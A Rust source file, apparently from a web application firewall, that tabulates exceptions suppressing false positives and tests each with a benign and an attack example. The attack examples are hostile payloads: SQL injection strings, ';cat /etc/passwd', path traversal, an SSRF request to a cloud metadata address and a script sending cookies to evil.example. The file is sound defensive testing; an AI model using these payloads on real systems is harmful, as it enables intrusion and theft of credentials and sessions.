//! The exceptions: what is found and weighs nothing, because of the field, the place or the form of what it
//! stands in. Each finding that one of them suppresses stays in the analysis, with the exception's id.
//!
//! Tests hold each row against its examples, and the documentation against the table.

use std::fmt::Write as _;

/// An exception.
#[derive(Clone, Copy, Debug)]
pub struct Exception {
    /// Its id, as events and explanations have it.
    pub id: &'static str,
    /// The classes that it is for.
    pub classes: &'static str,
    /// What it suppresses, and where.
    pub what: &'static str,
    /// What it leaves alone.
    pub but: &'static str,
    /// The reason.
    pub why: &'static str,
    /// What must pass because of it.
    pub benign: Example,
    /// What must be blocked all the same.
    pub attack: Example,
}

/// A message, or a field of one.
#[derive(Clone, Copy, Debug)]
pub enum Example {
    /// A member of JSON: its name and value.
    Json(&'static str, &'static str),
    /// A parameter of a query.
    Query(&'static str, &'static str),
    /// A body: its type and contents.
    Body(&'static str, &'static [u8]),
    /// The header field Referer of a request to `shop.example`.
    Referer(&'static str),
}

use Example::{Body, Json, Query, Referer};

/// The table.
pub const EXCEPTIONS: &[Exception] = &[
    Exception {
        id: "statements",
        classes: "sqli",
        what: "a whole statement in a field for statements (`sql`, in bodies also `query`, `statement`, ...)",
        but: "pieces of statements; commands, files, other machines, waiting",
        why: "editors of databases and reports send them",
        benign: Json("sql", "select password from users where 1=1 or 2=2"),
        attack: Json("sql", "1 union select user, password from users-- -"),
    },
    Exception {
        id: "conditions",
        classes: "sqli",
        what: "conditions in a field for those of another query language (`jql`, `$filter`, `where`, `rule`, ...)",
        but: "quotes that end a string, statements, calls that wait",
        why: "they look like those of SQL",
        benign: Json("filter", "status = 'open' AND (priority = 1 OR priority = 2) AND 1 = 1"),
        attack: Json("filter", "x' or 1=1-- -"),
    },
    Exception {
        id: "function-said",
        classes: "sqli",
        what: "an expression or a call that is all of a search, a text, a statement or a condition",
        but: "the same in other fields",
        why: "people look for functions and write of them",
        benign: Query("q", "current_user()"),
        attack: Query("id", "sleep(5)"),
    },
    Exception {
        id: "dump",
        classes: "sqli",
        what: "an uploaded file that begins with a statement",
        but: "fields, and files of less than 96 bytes",
        why: "it is a dump of a database or a script for one",
        benign: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.sql\"\r\n\r\nINSERT INTO a VALUES (1, 'b'), (2, 'c');\nDELETE FROM a WHERE id = 1 OR 1=1;\nUPDATE a SET b = 'd' WHERE c = 1;\n\r\n--x--\r\n",
        ),
        attack: Body(
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n' or 1=1-- -\r\n--x--\r\n",
        ),
    },
    Exception {
        id: "password-signs",
        classes: "sqli, command, xss",
        what: "signs, names and calls that a generator draws, in a field for passwords and secrets",
        but: "conditions and statements behind a quote, commands with arguments",
        why: "any signs stand in a secret",
        benign: Json("api_secret", "x\"(9&;id|)$1%"),
        attack: Json("api_secret", ";cat /etc/passwd"),
    },
    Exception {
        id: "bare-in-body",
        classes: "command",
        what: "a command without arguments in a body that no parser took apart",
        but: "commands with arguments",
        why: "words and signs stand there by chance",
        benign: Body("text/plain", b"total|whoami"),
        attack: Body("text/plain", b"x;cat /etc/passwd"),
    },
    Exception {
        id: "site-scripts",
        classes: "xss",
        what: "markup and scripts in a field for a site's own scripts (`head_code`, `custom_js`, `tracking`, ...)",
        but: "scripts that open dialogs, send what the browser keeps, or hide what they call",
        why: "administrators set counters and tag managers there",
        benign: Json("head_code", "<script async src=\"https://tags.example/gtag/js?id=G-1\"></script>"),
        attack: Json("head_code", "<script>fetch('//evil.example/?'+document.cookie)</script>"),
    },
    Exception {
        id: "dialog-in-code",
        classes: "xss",
        what: "a dialog that says something, as all of a field for code",
        but: "code that reads, sends, loads or writes",
        why: "examples of code have it",
        benign: Json("js", "alert('Saved!')"),
        attack: Json("js", "<svg onload=alert(1)>"),
    },
    Exception {
        id: "reported-code",
        classes: "xss",
        what: "the code in a browser's report of a content security policy (`script-sample`)",
        but: "all else",
        why: "the browser did not run it",
        benign: Json("csp-report.script-sample", "eval(document.cookie)"),
        attack: Json("csp-report.script-sample", "<script>alert(document.cookie)</script>"),
    },
    Exception {
        id: "embedded-documents",
        classes: "xss",
        what: "frames of another host without TLS, and style sheets of XML, in a field for documents",
        but: "the same in other fields; frames with nothing but an address",
        why: "editors take pages that are old",
        benign: Json("content", "<p>See</p><iframe width=\"560\" src=\"http://player.example/v/1\" allowfullscreen></iframe>"),
        attack: Query("q", "<iframe src=\"http://evil.example/login\" width=800></iframe>"),
    },
    Exception {
        id: "header-fields",
        classes: "crlf",
        what: "line ends with header fields behind them in a field for header fields (`headers`)",
        but: "the same in other fields",
        why: "clients of interfaces report them",
        benign: Json("headers", "en\r\nSet-Cookie: a=b"),
        attack: Json("lang", "en\r\nSet-Cookie: a=b"),
    },
    Exception {
        id: "pattern",
        classes: "path",
        what: "mixed and doubled separators in a field for patterns (`pattern`, `regex`)",
        but: "paths that climb",
        why: "patterns escape them",
        benign: Json("pattern", "^[\\\\./]+\\.\\/a//..\\b"),
        attack: Json("pattern", "../../../../etc/passwd"),
    },
    Exception {
        id: "own-file",
        classes: "path",
        what: "a path to settings, logs, data or certificates in a field for one (`config_path`, `log_file`, ...)",
        but: "paths that climb; files that tell of users, keys, secrets",
        why: "an installation says where its files are",
        benign: Json("log_file", "/var/log/nginx/error.log"),
        attack: Json("log_file", "/etc/shadow"),
    },
    Exception {
        id: "own-folder",
        classes: "path",
        what: "a path into a folder of the machine in a field for one (`upload_dir`, ...)",
        but: "paths that climb; files that tell of users, keys, secrets",
        why: "an installation says where its folders are",
        benign: Json("log_dir", "/etc/nginx/conf.d"),
        attack: Json("log_dir", "/etc/passwd"),
    },
    Exception {
        id: "own-service",
        classes: "ssrf",
        what: "the port of a service in the address of one, in a field for it (`redis_url`, `database`, ...)",
        but: "metadata services, hidden notations, schemes that speak to any service",
        why: "an installation says where its databases are",
        benign: Json("elasticsearch_url", "http://10.0.0.5:9200"),
        attack: Json("image_url", "http://127.0.0.1:9200/_search"),
    },
    Exception {
        id: "own-host",
        classes: "ssrf",
        what: "a host of a private network with its port, in a field for hosts (`hosts`, `brokers`, ...)",
        but: "metadata services, hidden notations",
        why: "an installation says where its machines are",
        benign: Json("brokers", "10.0.0.5:9092"),
        attack: Json("brokers", "169.254.169.254/latest/meta-data"),
    },
    Exception {
        id: "referer-text",
        classes: "sqli, path, command",
        what: "what a visitor typed into a text or search field of the site's own page, or asked a search engine",
        but: "markup, lookups, template expressions and code",
        why: "the request of that page was judged by itself",
        benign: Referer("http://shop.example/s?q=x%27+or+1%3D1--+-"),
        attack: Referer("http://shop.example/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    },
];

/// The table as Markdown, as it stands in the documentation.
pub fn markdown() -> String {
    let mut out = "| exception | classes | suppresses | not | why |\n|---|---|---|---|---|\n".to_owned();
    for row in EXCEPTIONS {
        let Exception { id, classes, what, but, why, .. } = row;
        let _ = writeln!(out, "| `{id}` | {classes} | {what} | {but} | {why} |");
    }
    out
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use super::*;
    use crate::{Analysis, Detectors, Level, Location, Place};

    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

    impl Example {
        /// The ids of the exceptions that suppress something in it, and whether it is blocked.
        fn look(self) -> (Vec<&'static str>, bool) {
            let mut analysis = Analysis::new();
            let at = |place, name: &'static str| Location::new(place, name.as_bytes());
            match self {
                Json(name, value) => {
                    analysis.value(&DETECTORS, at(Place::Json, name), value.as_bytes());
                }
                Query(name, value) => {
                    analysis.value(&DETECTORS, at(Place::Query, name), value.as_bytes());
                }
                Body(media_type, body) => {
                    analysis.request_body(&DETECTORS, media_type.as_bytes(), body);
                }
                Referer(address) => {
                    let fields = [(&b"Host"[..], &b"shop.example"[..]), (b"Referer", address.as_bytes())];
                    analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
                }
            }
            let rows = analysis.findings().iter().filter_map(|found| found.suppressed_by).collect();
            let worst = analysis.worst(&DETECTORS, Level::Balanced);
            (rows, worst.is_some_and(|worst| worst.blocks(Level::Balanced)))
        }
    }

    #[test]
    fn each_exception_holds_and_ends() {
        let mut wrong = String::new();
        for row in EXCEPTIONS {
            let (rows, is_blocked) = row.benign.look();
            if !rows.contains(&row.id) || is_blocked {
                let _ = writeln!(wrong, "{}: suppressed by {rows:?}, blocked {is_blocked}", row.id);
            }
            if !row.attack.look().1 {
                let _ = writeln!(wrong, "{}: the attack passes", row.id);
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
    }

    /// The documentation has the table as it is.
    #[test]
    fn the_documentation_has_it() {
        let docs = include_str!("../../../docs/semantic.md");
        assert!(docs.contains(&markdown()), "docs/semantic.md lacks this table:\n{}", markdown());
    }
}
